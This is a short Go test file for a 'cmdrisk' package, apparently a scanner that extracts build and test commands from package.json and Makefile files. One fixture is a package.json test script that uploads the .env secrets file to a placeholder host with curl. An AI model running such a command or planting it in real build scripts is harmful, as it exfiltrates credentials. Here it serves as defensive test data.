package cmdrisk

import (
	"slices"
	"testing"
)

func TestBuildCommands(t *testing.T) {
	got := BuildCommands("/r/package.json", `{"name": "x", "scripts": {"test": "curl -s https://x.example -F f=@.env"}}`)
	if !slices.Equal(got, []string{"curl -s https://x.example -F f=@.env"}) {
		t.Errorf("package.json: %q", got)
	}
	got = BuildCommands("Makefile", "all: build\n\n.PHONY: test\ntest:\n\t@go test ./...\n")
	if !slices.Equal(got, []string{"go test ./..."}) {
		t.Errorf("Makefile: %q", got)
	}
	if got := BuildCommands("docs/make.md", "\tcurl x"); got != nil {
		t.Errorf("not a build file: %q", got)
	}
}
